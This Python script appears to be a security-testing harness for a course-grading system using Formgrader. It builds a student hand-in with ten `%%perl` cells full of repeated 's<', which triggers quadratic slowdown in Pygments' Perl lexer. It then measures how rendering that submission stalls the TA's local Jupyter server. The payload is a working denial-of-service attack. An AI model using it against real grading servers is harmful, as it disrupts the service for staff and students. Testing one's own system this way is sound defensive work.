"""Round 35 capped code cells at 20,000 characters a cell and 200,000 a notebook for Formgrader's Pygments. The IPython
lexer hands a `%%perl` cell to Pygments' Perl lexer, which is quadratic on "s<" (a07b: 6.4 CPU-s per 20,000-char
cell, against 0.25 for round 35's " .a"). 10 such cells (the notebook's 200,000) in a hand-in; then the Formgrader
page of mallory from a real jupyter lab, with the TA's server's /api/status latency meanwhile."""
from lib import *
import socket, secrets, signal, threading, urllib.request, nbformat
d = course("a08")
nb = release()
cells = [nbformat.v4.new_code_cell("%%perl\n" + "s<" * 9_990) for _ in range(10)]
nb.cells = nb.cells[:2] + cells + nb.cells[2:]
put(d, "aaron", honest()); put(d, "mallory", nb); put(d, "zoe", honest())
print("hand-in bytes", os.path.getsize(f"{d}/submitted/mallory/{A}/{A}.ipynb"))
grade(d); scores(d)
for r in json.load(open(f"{d}/grading_report.json")): print(r["student"], r["status"], round(r["seconds"], 1), r["feedback"], r["reason"][:200])
db = sqlite3.connect(f"{d}/gradebook.db")
rows = dict((s, n) for n, s in db.execute("select n.id, s.student_id from submitted_notebook n join submitted_assignment s on n.assignment_id=s.id"))
s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
tok = secrets.token_hex(8)
lab = subprocess.Popen([f"{CLONE}/.venv/bin/jupyter", "lab", f"--notebook-dir={d}", "--allow-root", "--no-browser",
                        f"--port={port}", f"--IdentityProvider.token={tok}", "--ServerApp.ip=127.0.0.1"],
                       cwd=d, env=dict(os.environ, PYTHONPATH=CLONE, DISTCOURSE_JUDGE="kernel"),
                       stdout=open("/tmp/attack36-root-a08-lab.log", "w"), stderr=subprocess.STDOUT, start_new_session=True)
try:
    for _ in range(60):
        try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}"); break
        except Exception: time.sleep(1)
    for who in ("aaron", "mallory"):
        lat = []; stop = threading.Event()
        def probe():
            while not stop.is_set():
                t = time.time()
                try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}", timeout=600).read()
                except Exception: pass
                lat.append(time.time() - t); time.sleep(0.5)
        th = threading.Thread(target=probe); th.start()
        t = time.time()
        try:
            page = urllib.request.urlopen(f"http://127.0.0.1:{port}/formgrader/submissions/{rows[who]}/?token={tok}", timeout=600).read()
            print(f"{who}: Formgrader page {len(page):,} bytes in {time.time()-t:.1f} s", end="; ")
        except Exception as e:
            print(who, "page error", e, f"after {time.time()-t:.1f}s", end="; ")
        stop.set(); th.join()
        print(f"TA server /api/status worst latency meanwhile {max(lat):.1f} s")
finally:
    os.killpg(lab.pid, signal.SIGTERM)
    try: lab.wait(15)
    except subprocess.TimeoutExpired: os.killpg(lab.pid, signal.SIGKILL); lab.wait()
